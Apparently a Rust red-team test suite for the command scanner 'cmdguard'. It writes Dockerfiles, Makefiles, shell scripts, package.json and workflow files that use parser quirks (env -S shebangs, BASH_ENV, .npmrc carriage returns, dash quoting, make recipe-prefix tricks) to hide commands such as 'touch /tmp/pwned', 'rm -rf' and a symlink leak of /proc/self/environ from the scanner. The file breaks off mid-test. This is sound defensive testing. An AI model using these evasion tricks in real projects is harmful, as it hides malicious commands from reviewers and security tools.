//! Red team, session 8: `cmdguard scan` reading a file differently from the program that runs
//! it. Each test writes one file into a fresh directory, scans it through the real binary and
//! states what the file really runs (verified with the real tool where it is installed, else
//! from the tool's own source or reference, named in the test). A test fails while scan says
//! less than `check` would say about what really runs.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A fresh directory for one test.
fn dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("cmdguard-redscan-s8-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// Writes `files` (relative path, bytes) under a fresh directory and returns it.
fn project(name: &str, files: &[(&str, &[u8])]) -> PathBuf {
    let d = dir(name);
    for (path, bytes) in files {
        let p = d.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, bytes).unwrap();
    }
    d
}

/// `cmdguard scan --no-config ARGS…` run in `cwd` with no config file in reach.
fn scan_in(cwd: &Path, args: &[&str]) -> Output {
    let home = cwd.join(".home");
    Command::new(env!("CARGO_BIN_EXE_cmdguard"))
        .current_dir(cwd)
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_STATE_HOME", home.join("state"))
        .env("CLAUDE_CONFIG_DIR", home.join("claude"))
        .env("CMDGUARD_SYSTEM_CONFIG", home.join("etc/config.toml"))
        .env_remove("CMDGUARD_CONFIG")
        .arg("scan")
        .arg("--no-config")
        .args(args)
        .output()
        .unwrap()
}

/// Scans one file (written as `path`) and returns the exit code and the text report.
fn scan_file(name: &str, path: &str, text: &[u8]) -> (i32, String) {
    let d = project(name, &[(path, text)]);
    let o = scan_in(&d, &[path]);
    let report = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    (o.status.code().unwrap_or(-1), report)
}

/// The file really runs a command `check` does not allow (here `touch /tmp/pwned`, which
/// asks as `not_allowlisted`): scan must not exit 0.
fn assert_not_allowed(name: &str, path: &str, text: &str, what_runs: &str) {
    let (code, report) = scan_file(name, path, text.as_bytes());
    assert_ne!(
        code, 0,
        "scan allowed {path} although it runs {what_runs}\n--- file\n{text}\n--- report\n{report}"
    );
}

// ---------------------------------------------------------------- Dockerfile

/// BuildKit's flag reader (`extractBuilderFlags`, parser/split_command.go) takes `\ ` inside a
/// `--flag` as an escaped space: the flag is `--mount=type=tmpfs,target=/x echo` and the
/// command is `touch /tmp/pwned`. Scan splits the flags on raw white space and reads
/// `echo touch /tmp/pwned`.
#[test]
fn dockerfile_run_flag_with_an_escaped_space_hides_the_program() {
    assert_not_allowed(
        "df-flag-escape",
        "Dockerfile",
        "FROM alpine\nRUN --mount=type=tmpfs,target=/x\\ echo touch /tmp/pwned\n",
        "`touch /tmp/pwned` (the escaped space belongs to the flag)",
    );
}

/// Docker's continuation pattern is `([^\\])\\[ \t]*$`: a line ending in an escaped escape
/// `\\` does not continue. Scan strips one `\` and joins the next instruction into the echo.
#[test]
fn dockerfile_escaped_backslash_at_line_end_is_not_a_continuation() {
    assert_not_allowed(
        "df-double-backslash",
        "Dockerfile",
        "FROM alpine\nRUN echo \\\\\nRUN touch /tmp/pwned\n",
        "the second RUN, `touch /tmp/pwned`",
    );
}

/// Docker only lets spaces and tabs follow the escape character of a continuation
/// (`\\[ \t]*$`); scan trims every Unicode white space (here a no-break space), so it joins
/// the next RUN into the echo.
#[test]
fn dockerfile_no_break_space_after_backslash_is_not_a_continuation() {
    assert_not_allowed(
        "df-nbsp-continuation",
        "Dockerfile",
        "FROM alpine\nRUN echo hi \\\u{a0}\nRUN touch /tmp/pwned\n",
        "the second RUN, `touch /tmp/pwned`",
    );
}

/// BuildKit finds heredocs only in words that start with `<<` (`^(\d*)<<(-?)([^<]*)$` on each
/// word, parser.go `heredocsFromLine`): `echo x<<EOF` opens none, so the next lines are
/// instructions and the second RUN runs its own heredoc. Scan opens a heredoc at `x<<EOF`
/// and reads the second RUN as its text.
#[test]
fn dockerfile_heredoc_marker_inside_a_word_is_not_a_docker_heredoc() {
    assert_not_allowed(
        "df-heredoc-in-word",
        "Dockerfile",
        "FROM alpine\nRUN echo x<<EOF\nRUN <<EOF\ntouch /tmp/pwned\nEOF\n",
        "the second RUN's heredoc, `touch /tmp/pwned`",
    );
}

/// `COPY` and `ADD` take heredocs too (parser_heredoc.go: Add, Copy, Run): Docker reads the
/// COPY body as file content up to `EOF`. Scan does not, reads the body line `RUN true <<END`
/// as an instruction and swallows everything up to `END`, including the real
/// `RUN touch /tmp/pwned`.
#[test]
fn dockerfile_copy_heredoc_body_is_not_instructions() {
    assert_not_allowed(
        "df-copy-heredoc",
        "Dockerfile",
        "FROM alpine\nCOPY <<EOF /x\nRUN true <<END\nEOF\nRUN touch /tmp/pwned\nCOPY <<END /y\nEND\n",
        "`RUN touch /tmp/pwned` between the COPY heredocs",
    );
}

/// BuildKit picks the frontend with `DetectSyntax`, which skips a first `#!` line
/// (directives.go `discardShebang`) and then reads `# syntax=`. The image `evil/frontend`
/// then reads the file and decides everything the build runs; scan stops looking for
/// directives at the `#!` line and reports a clean file.
#[test]
fn dockerfile_syntax_directive_after_a_shebang_line_is_seen() {
    assert_not_allowed(
        "df-syntax-after-shebang",
        "Dockerfile",
        "#!/usr/bin/env buildctl-daemonless.sh\n# syntax=evil/frontend\nFROM alpine\nRUN echo hi\n",
        "the frontend image evil/frontend",
    );
}

/// Docker stops reading parser directives at the first comment that is not a known directive
/// (directives.go: an unknown key sets `done`), so `# escape=`` after `# foo=bar` is a plain
/// comment and `\` stays the escape. Scan keeps looking, takes `` ` `` as the escape and joins
/// `RUN touch /tmp/pwned` into the WORKDIR line.
#[test]
fn dockerfile_escape_directive_after_an_unknown_directive_is_a_comment() {
    assert_not_allowed(
        "df-escape-after-unknown",
        "Dockerfile",
        "# foo=bar\n# escape=`\nFROM alpine\nWORKDIR /a`\nRUN touch /tmp/pwned\n",
        "`RUN touch /tmp/pwned`",
    );
}

/// An `ARG NAME` without a value inside a stage takes the default of a global `ARG NAME=…`
/// declared before the first FROM (Dockerfile reference, "Understand how ARG and FROM
/// interact"), so `BASH_ENV=/tmp/evil` is in the environment of the RUN and bash sources the
/// copied file first. Scan skips the global ARG and the bare one, and reports no
/// `environment` problem although it flags `ARG BASH_ENV=/tmp/evil` inside a stage.
#[test]
fn dockerfile_bare_arg_inherits_the_global_default() {
    assert_not_allowed(
        "df-global-arg",
        "Dockerfile",
        "ARG BASH_ENV=/tmp/evil\nFROM debian\nARG BASH_ENV\nCOPY evil.sh /tmp/evil\nSHELL [\"/bin/bash\", \"-c\"]\nRUN echo hi\n",
        "/tmp/evil sourced by bash before `echo hi`",
    );
}

/// A stage built `FROM` an earlier stage inherits that stage's image config, `Shell`
/// included (SHELL sets `Config.Shell`). Scan resets the shell to bash at every FROM, so the
/// RUN below is read as bash (one assignment, allowed) while python3 runs it and calls
/// `os.system("touch /tmp/pwned")` (checked: `python3 -c` of this body creates the file,
/// `sh -c` does not).
#[test]
fn dockerfile_shell_is_inherited_from_an_earlier_stage() {
    assert_not_allowed(
        "df-stage-shell",
        "Dockerfile",
        "FROM python:3-alpine AS base\nSHELL [\"python3\", \"-c\"]\nFROM base\nRUN <<EOF\necho='\\''\n__import__(\"os\").system(\"touch /tmp/pwned\")\n#'\nEOF\n",
        "python3 running os.system(\"touch /tmp/pwned\")",
    );
}

// ---------------------------------------------------------------- shell scripts

/// `env -S` splits the rest of a `#!` line into words, so the kernel runs
/// `env -S 'bash -c "touch /tmp/pwned"' ./s.sh` = `bash -c "touch /tmp/pwned" ./s.sh`: the
/// script body never runs, the `-c` text does. Scan keeps only the interpreter's name (bash)
/// and analyses the body (checked: running the script created /tmp/pwned; the same with
/// `#!/usr/bin/env -S sh ./evil.sh`, which runs evil.sh instead of the body).
#[test]
fn shell_script_env_split_shebang_arguments_run() {
    for (text, runs) in [
        (
            "#!/usr/bin/env -S bash -c \"touch /tmp/pwned\"\necho hi\n",
            "`bash -c \"touch /tmp/pwned\"`",
        ),
        ("#!/usr/bin/env -S sh ./evil.sh\necho hi\n", "./evil.sh"),
    ] {
        assert_not_allowed("sh-env-split", "s.sh", text, runs);
    }
}

/// `env -S NAME=value bash` sets the variable for bash: `BASH_ENV=./evil.sh` makes the
/// non-interactive bash source ./evil.sh before the script (checked: it created /tmp/pwned).
/// `interpreter_name` skips words with `=`, so scan reads a plain bash script.
#[test]
fn shell_script_env_shebang_assignment_reaches_bash() {
    assert_not_allowed(
        "sh-env-assign",
        "s.sh",
        "#!/usr/bin/env -S BASH_ENV=./evil.sh bash\necho hi\n",
        "./evil.sh, sourced through BASH_ENV",
    );
}

/// A `#!` line naming `./bash` runs the file `./bash` from the current directory as the
/// interpreter (checked: with ./bash a script that touches /tmp/pwned, running the script
/// created it). Scan keeps only the last path component, `bash`, and reads a plain bash
/// script; the workflow and Makefile readers ask for a shell outside the system directories.
#[test]
fn shell_script_shebang_interpreter_outside_system_directories() {
    assert_not_allowed(
        "sh-relative-interp",
        "s.sh",
        "#!./bash\necho hi\n",
        "the program ./bash",
    );
}

// ---------------------------------------------------------------- Makefile

/// GNU make treats a tab-prefixed line as a recipe only after a rule line (read.c: "If there
/// is no preceding rule line, don't treat this line as a command"); at the top of the file,
/// or after an assignment that ended the rule, it is a Makefile line. `echo != touch …` is
/// then a shell assignment make runs while reading (checked with GNU make 4.3: /tmp/pwned
/// created). Scan reads it as the recipe `echo != touch /tmp/pwned`, an echo.
#[test]
fn makefile_tab_line_without_a_rule_is_a_makefile_line() {
    for text in [
        "\techo != touch /tmp/pwned\nall:\n\t@echo hi\n",
        "all:\n\t@echo hi\nX = 1\n\techo != touch /tmp/pwned\n",
    ] {
        assert_not_allowed(
            "mk-tab-no-rule",
            "Makefile",
            text,
            "`touch /tmp/pwned` (a `!=` assignment)",
        );
    }
}

/// `target: prerequisites ; recipe` where the `;` comes after a `\` continuation: make joins
/// the lines first, so the recipe is `touch /tmp/pwned` (checked with GNU make 4.3). Scan only
/// takes the recipe when the `;` is on the first physical line, and otherwise drops it.
#[test]
fn makefile_semicolon_recipe_after_a_continuation_is_read() {
    assert_not_allowed(
        "mk-semicolon-continued",
        "Makefile",
        "all: \\\n  ; touch /tmp/pwned\n",
        "the recipe `touch /tmp/pwned`",
    );
}

/// `.RECIPEPREFIX` set in a conditional make does not take, or for one target only, does not
/// change how make reads the file: the tab line stays a recipe and the shell runs
/// `X = 1; touch /tmp/pwned` (checked with GNU make 4.3). Scan switches its prefix to `>`,
/// reads the tab line as the assignment `X = 1; touch /tmp/pwned` and reports 0 commands.
#[test]
fn makefile_recipeprefix_in_a_false_conditional_or_for_a_target_changes_nothing() {
    for text in [
        "ifeq (a,b)\n.RECIPEPREFIX = >\nendif\nall:\n\tX = 1; touch /tmp/pwned\n",
        "all: .RECIPEPREFIX = >\nall:\n\tX = 1; touch /tmp/pwned\n",
    ] {
        assert_not_allowed(
            "mk-recipeprefix",
            "Makefile",
            text,
            "the recipe `X = 1; touch /tmp/pwned`",
        );
    }
}

/// `.ONESHELL:` inside `ifeq (a,b)` is never read by make, so each recipe line runs in its own
/// shell and `touch /tmp/pwned` runs (checked with GNU make 4.3). Scan turns `.ONESHELL` on
/// for any line that starts with it, joins the three lines into one script and reads the
/// touch as heredoc text.
#[test]
fn makefile_oneshell_in_a_false_conditional_is_off() {
    assert_not_allowed(
        "mk-oneshell-false",
        "Makefile",
        "ifeq (a,b)\n.ONESHELL:\nendif\nall:\n\ttrue <<EOF\n\ttouch /tmp/pwned\n\tEOF\n",
        "the recipe line `touch /tmp/pwned`, in a shell of its own",
    );
}

// ---------------------------------------------------------------- package.json

/// npm reads `.npmrc` with the `ini` package, which splits lines on `[\r\n]+`: a lone carriage
/// return ends a line. Checked with npm 11.19.1: `npm test` ran `./evil.sh -c "echo ok"`
/// (printed `EVIL-SHELL -c echo ok`). Scan splits on `\n` only, sees one `registry=` line and
/// reports the package clean.
#[test]
fn npmrc_carriage_return_separates_keys() {
    let d = project(
        "npmrc-cr",
        &[
            (
                "package.json",
                br#"{"name":"x","version":"1.0.0","scripts":{"test":"echo ok"}}"#,
            ),
            (
                ".npmrc",
                b"registry=https://registry.npmjs.org/\rscript-shell=./evil.sh\n",
            ),
        ],
    );
    let o = scan_in(&d, &["package.json"]);
    assert_ne!(
        o.status.code(),
        Some(0),
        "scan allowed package.json although its .npmrc sets script-shell=./evil.sh\n{}",
        String::from_utf8_lossy(&o.stdout)
    );
}

/// npm starts every script as `sh -c SCRIPT` and finds `sh` itself on the script's `PATH`,
/// which has `node_modules/.bin` first. Checked with npm 11.19.1: with a
/// `node_modules/.bin/sh` beside the file, `npm test` of `echo ok` ran that program (it printed
/// `FAKE-SH -c echo ok`). So a script of builtins looks a program up too; scan drops the
/// `project_path` reason for it and reports the file clean.
#[test]
fn package_json_builtin_only_script_still_runs_sh_from_the_project_path() {
    assert_not_allowed(
        "pj-builtins-sh",
        "package.json",
        r#"{"name":"x","version":"1.0.0","scripts":{"test":"echo ok"}}"#,
        "`sh` looked up with node_modules/.bin first on PATH",
    );
}

// ---------------------------------------------------------------- GitHub Actions

/// A service container runs its image's own program next to the job, here with the runner's
/// work directory mounted (`jobs.<id>.services.<id>.image` and `volumes`, GitHub Actions
/// workflow syntax): the same as a `uses: docker://` step, which scan asks for as a program
/// it does not see. Scan ignores `services:` and reports the workflow clean.
#[test]
fn workflow_service_container_runs_an_unseen_program() {
    assert_not_allowed(
        "wf-services",
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    services:\n      x:\n        image: evil/wipe\n        volumes:\n          - /home/runner/work:/w\n    steps:\n      - run: echo hi\n",
        "the image evil/wipe's entrypoint, with the work directory mounted",
    );
}

/// With `jobs.<id>.container`, every `run:` step is executed inside that image by the
/// image's own shell (`docker exec … sh -e {0}` / bash): the program that reads the script is
/// one scan never sees, as with a `uses: docker://` step. Scan reports `echo hi` clean.
#[test]
fn workflow_job_container_shell_is_the_image_program() {
    assert_not_allowed(
        "wf-container",
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container:\n      image: evil/img\n    steps:\n      - run: echo hi\n",
        "the shell of the image evil/img",
    );
}

/// The default shell of a Windows runner is pwsh, and a self-hosted runner's labels need not
/// say its OS. Scan asks when the runner is chosen by an expression ("it may be Windows") but
/// reads `[self-hosted, build-box]` as bash. In pwsh a backslash is no escape, so
/// `echo "\"; Remove-Item -Recurse -Force ./x; echo "\""` deletes ./x, while bash reads one
/// echo of one string (not run: no pwsh here; PowerShell quoting rules).
#[test]
fn workflow_self_hosted_runner_may_be_windows() {
    assert_not_allowed(
        "wf-self-hosted",
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  a:\n    runs-on: [self-hosted, build-box]\n    steps:\n      - run: echo \"\\\"; Remove-Item -Recurse -Force ./x; echo \"\\\"\n",
        "pwsh running Remove-Item on a Windows self-hosted runner",
    );
}

/// GNU make recognises `define` and `endef` inside a define body only on lines that do not
/// start with the recipe prefix (read.c `do_define`): here `\tdefine B` nests nothing, the
/// plain `endef` closes `A`, and `all:` is a rule whose recipe runs `touch /tmp/pwned`
/// (checked with GNU make 4.3). Scan counts the tab-indented `define`, so it reads the rest of
/// the file as the body of `A`, which nothing uses, and reports 0 commands.
#[test]
fn makefile_tab_indented_define_does_not_nest() {
    assert_not_allowed(
        "mk-define-tab",
        "Makefile",
        "define A\n\tdefine B\nendef\nall:\n\ttouch /tmp/pwned\n\tendef\n",
        "the recipe `touch /tmp/pwned`",
    );
}

/// make runs recipes after it has read the whole file, with the last value `SHELL` got:
/// `SHELL = ./evil.sh` after the rule still makes make run `./evil.sh -c "echo hi"` (checked
/// with GNU make 4.3: it printed `EVIL -c echo hi`; the same for `all: SHELL = ./evil.sh`
/// after the recipe). Scan gives each recipe the shell set above it and asks nothing for the
/// assignment itself.
#[test]
fn makefile_shell_assigned_after_the_recipe_still_runs_it() {
    for text in [
        "all:\n\t@echo hi\nSHELL = ./evil.sh\n",
        "all:\n\t@echo hi\nall: SHELL = ./evil.sh\n",
    ] {
        assert_not_allowed(
            "mk-shell-after",
            "Makefile",
            text,
            "./evil.sh as the shell of the recipe",
        );
    }
}

/// make's built-in implicit rules are recipes too: `all: prog` with a `prog.c` beside the
/// Makefile runs `$(CC) prog.c -o prog`, and the file sets `CC = ./evil.sh` (checked with GNU
/// make 4.3: it ran `./evil.sh prog.c -o prog`; without the assignment it runs `cc`, which
/// `check` does not allow either). Scan sees no recipe, keeps `CC` as a plain variable and
/// reports the file clean.
#[test]
fn makefile_builtin_implicit_rule_runs_cc() {
    let d = project(
        "mk-implicit",
        &[
            ("Makefile", b"CC = ./evil.sh\nall: prog\n"),
            ("prog.c", b""),
        ],
    );
    let o = scan_in(&d, &["Makefile"]);
    assert_ne!(
        o.status.code(),
        Some(0),
        "scan allowed a Makefile whose implicit rule runs `./evil.sh prog.c -o prog`\n{}",
        String::from_utf8_lossy(&o.stdout)
    );
}

/// A target-specific `!=` assignment runs its shell command while make reads the line, like a
/// global one (checked with GNU make 4.3: `all: X != touch /tmp/pwned` created the file, with
/// or without `private`). Scan looks for `!=` only in lines with no `:` before it, and
/// records the target-specific assignment without its command.
#[test]
fn makefile_target_specific_shell_assignment_runs_at_read_time() {
    for text in [
        "all: X != touch /tmp/pwned\nall:\n\t@echo hi\n",
        "all: private X != touch /tmp/pwned\nall:\n\t@echo hi\n",
    ] {
        assert_not_allowed(
            "mk-target-bang",
            "Makefile",
            text,
            "`touch /tmp/pwned` while make reads the file",
        );
    }
}

/// Under `# escape=``, a backslash is an ordinary character for Docker's word splitter
/// (parser/line_parsers.go `parseWords` escapes only with the directive's character), so
/// `ENV LANG=C.UTF-8\ BASH_ENV=/tmp/evil` sets two variables, BASH_ENV among them. Scan's
/// `shell_words` always treats `\` as the escape, reads one word and records only `LANG`,
/// which is inert.
#[test]
fn dockerfile_env_backslash_is_no_escape_under_a_backtick_escape() {
    assert_not_allowed(
        "df-env-escape",
        "Dockerfile",
        "# escape=`\nFROM debian\nENV LANG=C.UTF-8\\ BASH_ENV=/tmp/evil\nCOPY evil.sh /tmp/evil\nSHELL [\"/bin/bash\", \"-c\"]\nRUN echo hi\n",
        "/tmp/evil sourced by bash (BASH_ENV) before `echo hi`",
    );
}

/// BuildKit runs a lone heredoc whose body starts with `#!` as a file (convert.go
/// `dispatchRun`: `llb.Mkfile` under /dev/pipes, then exec), so the kernel reads the `#!`
/// line and `env -S` splits it: `sh -c "touch /tmp/pwned"` runs instead of the body (the
/// same kernel behaviour was checked with a script in the shell-script test above). Scan
/// keeps only the interpreter's name, `sh`, and analyses the body `echo hi`.
#[test]
fn dockerfile_heredoc_shebang_arguments_run() {
    assert_not_allowed(
        "df-heredoc-shebang",
        "Dockerfile",
        "FROM alpine\nRUN <<EOF\n#!/usr/bin/env -S sh -c \"touch /tmp/pwned\"\necho hi\nEOF\n",
        "`sh -c \"touch /tmp/pwned\"` from the heredoc's #! line",
    );
}

/// npm's documented default scripts include `"start": "node server.js"` when the package has
/// a `server.js` and no `start` script (docs: package.json scripts, "Default values"; the
/// same list scan follows for `binding.gyp`). Checked with npm 11.19.1: `npm start` printed
/// `> node server.js` and ran it. Scan reports the package clean.
#[test]
fn package_json_server_js_makes_a_default_start_script() {
    let d = project(
        "pj-server-js",
        &[
            ("package.json", br#"{"name":"x","version":"1.0.0"}"#),
            (
                "server.js",
                b"require(\"fs\").writeFileSync(\"/tmp/pwned\", \"\")\n",
            ),
        ],
    );
    let o = scan_in(&d, &["package.json"]);
    assert_ne!(
        o.status.code(),
        Some(0),
        "scan allowed a package whose `npm start` runs `node server.js`\n{}",
        String::from_utf8_lossy(&o.stdout)
    );
}

// ---------------------------------------------------------------- sh read as bash

/// dash (the `/bin/sh` of Debian and Ubuntu, which make, npm and `#!/bin/sh` scripts use) has
/// no `$'…'` quoting: it reads `$'\'` as `$` and the string `\`, so `; touch /tmp/pwned ;`
/// is a command, while bash reads one ANSI-C string up to `#'`. Checked on this machine
/// (/bin/sh -> dash): the script, `make` of the recipe and `npm test` of the script each
/// created /tmp/pwned; `bash` of the script did not. Scan reads sh as bash ("where dash
/// differs it runs less than bash would, never more") and reports all three clean.
#[test]
fn sh_is_dash_and_runs_what_bash_quotes() {
    for (path, text) in [
        ("s.sh", "#!/bin/sh\necho $'\\' ; touch /tmp/pwned ; #'\n"),
        ("Makefile", "all:\n\techo $$'\\' ; touch /tmp/pwned ; #'\n"),
        // Not run (no Docker or Actions runner here): Debian images and ubuntu runners have
        // /bin/sh -> dash, which Docker's default `SHELL ["/bin/sh", "-c"]` and
        // `shell: sh` (`sh -e {0}`) start.
        (
            "Dockerfile",
            "FROM debian\nRUN echo $'\\' ; touch /tmp/pwned ; #'\n",
        ),
        (
            ".github/workflows/ci.yml",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: sh\n        run: |\n          echo $'\\' ; touch /tmp/pwned ; #'\n",
        ),
        (
            "package.json",
            r#"{"name":"x","version":"1.0.0","scripts":{"test":"echo $'\\' ; touch /tmp/pwned ; #'"}}"#,
        ),
    ] {
        assert_not_allowed("sh-is-dash", path, text, "`touch /tmp/pwned` under dash");
    }
}

// ---------------------------------------------------------------- the documented CI job

/// The README's GitHub Actions job scans the files `git ls-files -z -- PATTERNS` lists. GNU
/// make reads `GNUmakefile` before `Makefile` (and `makefile`), scan itself knows `*.mk`,
/// `Containerfile`, `Dockerfile.*` and `action.yml`, yet the documented patterns list none
/// of them (checked with git: only Dockerfile, Makefile, a.sh, app.Dockerfile, package.json
/// and the workflow were listed). A `GNUmakefile` full of recipes beside a clean `Makefile`
/// passes the documented job while `make` runs the GNUmakefile.
#[test]
fn documented_ci_job_lists_every_file_scan_reads() {
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let at = readme
        .find("git ls-files -z --")
        .expect("the CI job's git ls-files line");
    let rest = &readme[at..];
    let end = rest.find(')').unwrap();
    let patterns: Vec<&str> = rest[..end].split('\'').skip(1).step_by(2).collect();
    assert!(!patterns.is_empty(), "no pathspecs in {}", &rest[..end]);
    let files = [
        "GNUmakefile",
        "makefile",
        "rules.mk",
        "Containerfile",
        "Dockerfile.prod",
        "action.yml",
    ];
    let d = project(
        "ci-ls-files",
        &files.iter().map(|f| (*f, &b"x\n"[..])).collect::<Vec<_>>(),
    );
    let git = |args: &[&str]| {
        Command::new("git")
            .current_dir(&d)
            .args(args)
            .output()
            .unwrap()
    };
    assert!(git(&["init", "-q"]).status.success());
    assert!(git(&["add", "-A"]).status.success());
    let mut args = vec!["ls-files", "-z", "--"];
    args.extend(patterns.iter().copied());
    let listed = String::from_utf8(git(&args).stdout).unwrap();
    let listed: Vec<&str> = listed.split('\0').filter(|s| !s.is_empty()).collect();
    let missing: Vec<&str> = files
        .iter()
        .copied()
        .filter(|f| !listed.contains(f))
        .collect();
    assert!(
        missing.is_empty(),
        "the documented CI job never scans {missing:?} (patterns {patterns:?})"
    );
}

// ---------------------------------------------------------------- SARIF

/// A file whose name starts with `cmdguard:` is written into the SARIF log as it is: the
/// artifact URI `cmdguard:a b.sh` holds a raw space (not a URI reference, RFC 3986) and names
/// cmdguard's own pseudo-scheme, so code scanning cannot place the result on the real file
/// `./cmdguard:a b.sh`. `uri_of` skips percent-encoding for anything that starts with
/// `cmdguard:`, which is meant only for `check`'s `cmdguard:command` / `cmdguard:stdin`.
#[test]
fn sarif_uri_of_a_file_named_like_the_pseudo_scheme_is_encoded() {
    let d = project("sarif-uri", &[("cmdguard:a b.sh", b"rm -rf /x\n")]);
    let o = scan_in(&d, &["--format", "sarif", "cmdguard:a b.sh"]);
    let log: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let uris: Vec<String> = log["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert!(!uris.is_empty());
    for uri in &uris {
        assert!(
            !uri.contains(' ') && !uri.starts_with("cmdguard:"),
            "the file `cmdguard:a b.sh` is reported at the URI {uri:?}"
        );
    }
}

// ---------------------------------------------------------------- locations

/// A `$(shell …)` on the third physical line of a continued assignment is reported at the
/// end of the first line (`Logical::at` clamps every offset past the first line to its end):
/// `not_allowlisted` for `touch` at 1:9 with the command text `⏎  b \⏎  $(shell`, while
/// `touch` is at 3:11.
#[test]
fn makefile_shell_on_a_continuation_line_is_reported_where_it_is() {
    let d = project(
        "mk-continued-location",
        &[(
            "Makefile",
            b"X := a \\\n  b \\\n  $(shell touch /tmp/pwned)\nall:\n\t@echo hi\n",
        )],
    );
    let o = scan_in(&d, &["--format", "json", "Makefile"]);
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let at: Vec<(u64, u64)> = report["files"][0]["commands"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|c| c["reasons"].as_array().unwrap().iter())
        .filter(|r| r["code"] == "not_allowlisted")
        .map(|r| {
            (
                r["start"]["line"].as_u64().unwrap(),
                r["start"]["column"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(at, [(3, 11)], "where `touch` is reported");
}

/// npm reads package.json with `JSON.parse`, where the last of two `"scripts"` keys wins: the
/// package below has no `install` script, so with a `binding.gyp` beside it `npm install` runs
/// `node-gyp rebuild` (checked with npm 11.19.1: it printed `> node-gyp rebuild` and started
/// node-gyp; `npm run` listed only `test`). Scan reads every `"scripts"` object, takes the
/// first one's `install` as the package's and drops its own binding.gyp question.
#[test]
fn package_json_duplicate_scripts_key_hides_the_gyp_default() {
    let d = project(
        "pj-dup-scripts",
        &[
            (
                "package.json",
                br#"{"name":"x","version":"1.0.0","scripts":{"install":"echo hi"},"scripts":{"test":"echo ok"}}"#,
            ),
            ("binding.gyp", b"{}\n"),
        ],
    );
    let o = scan_in(&d, &["package.json"]);
    assert_ne!(
        o.status.code(),
        Some(0),
        "scan allowed a package whose `npm install` runs `node-gyp rebuild`\n{}",
        String::from_utf8_lossy(&o.stdout)
    );
}

/// `.RECIPEPREFIX := $(P)` with `P := >` makes `>` the recipe prefix (make expands the
/// value), so `>touch /tmp/pwned : ; true` is a recipe line of `all` (checked with GNU make
/// 4.3: /tmp/pwned created). Scan takes the first character of the unexpanded value, `$`,
/// reads the line as the rule `>touch /tmp/pwned : ; true` and allows its recipe `true`.
#[test]
fn makefile_recipeprefix_from_a_variable_is_expanded() {
    assert_not_allowed(
        "mk-recipeprefix-var",
        "Makefile",
        "P := >\n.RECIPEPREFIX := $(P)\nall:\n>touch /tmp/pwned : ; true\n",
        "the recipe line `touch /tmp/pwned : ; true`",
    );
}

/// lint-staged runs each command without a shell: it splits the string with `string-argv`
/// and starts the first word with execa and `preferLocal` (node_modules/.bin first), so
/// `echo` here is not the shell builtin but whatever program named `echo` the project path
/// holds (lint-staged's source, `resolveTaskFn`; not run here). Scan drops the
/// `project_path` reason because `echo` is a builtin of bash and dash.
#[test]
fn package_json_lint_staged_echo_is_a_program_not_a_builtin() {
    assert_not_allowed(
        "pj-lint-staged-echo",
        "package.json",
        r#"{"name":"x","version":"1.0.0","lint-staged":{"*.js":"echo"}}"#,
        "the program `echo` found with node_modules/.bin first",
    );
}

/// `all: ;X=1 rm -rf /tmp/v` is a rule whose recipe (after `;`) is `X=1 rm -rf /tmp/v` (checked
/// with GNU make 4.3: /tmp/v deleted). Scan's `assignment` finds the `=` first and takes the
/// line for a target-specific assignment of the variable `;X`: it asks for that name and never
/// analyses the recipe, so the recursive delete is not denied.
#[test]
fn makefile_semicolon_recipe_with_an_assignment_prefix_is_a_recipe() {
    let (code, report) = scan_file(
        "mk-semicolon-assign",
        "Makefile",
        b"all: ;X=1 rm -rf /tmp/v\n",
    );
    assert_eq!(code, 2, "want deny (rm -rf runs)\n{report}");
}

// ---------------------------------------------------------------- what scan reads

/// `cmdguard scan` reads each path with `std::fs::read`, following symlinks, and prints the
/// text of every command that is not allowed. A repository can track a symlink
/// `leak.sh -> /proc/self/environ` (or any file outside the tree): the README's CI job passes
/// it to scan (it matches `*.sh`) and uploads the SARIF log, whose `properties.command` then
/// holds the target's text — checked: with `FOO_SECRET=hunter2xyz` in scan's environment,
/// `scan --format sarif env.sh` printed `hunter2xyz`. Here the target is a file outside the
/// project holding a fake key.
#[test]
fn scan_does_not_copy_a_symlink_target_outside_the_tree_into_the_report() {
    let outside = dir("symlink-target");
    let secret = outside.join("credentials");
    std::fs::write(&secret, "AWS_SECRET_ACCESS_KEY=abcd1234redscansecret\n").unwrap();
    let d = dir("symlink-leak");
    std::os::unix::fs::symlink(&secret, d.join("leak.sh")).unwrap();
    let o = scan_in(&d, &["--format", "sarif", "leak.sh"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        !out.contains("abcd1234redscansecret"),
        "scan copied the text of a file outside the tree, reached through a symlink, into its SARIF log:\n{out}"
    );
}

/// A path that is a FIFO (or a symlink to `/dev/zero`, which grew scan to 7.9 GB in 20 s
/// here) is read without a size limit or a file-type check: scan never ends. It should ask or
/// fail for a file that is not a regular file instead of hanging a pre-commit hook or a CI job.
#[test]
fn scan_of_a_fifo_ends() {
    let d = dir("fifo");
    assert!(
        Command::new("mkfifo")
            .arg(d.join("f.sh"))
            .status()
            .unwrap()
            .success()
    );
    let home = d.join(".home");
    let mut child = Command::new(env!("CARGO_BIN_EXE_cmdguard"))
        .current_dir(&d)
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join("config"))
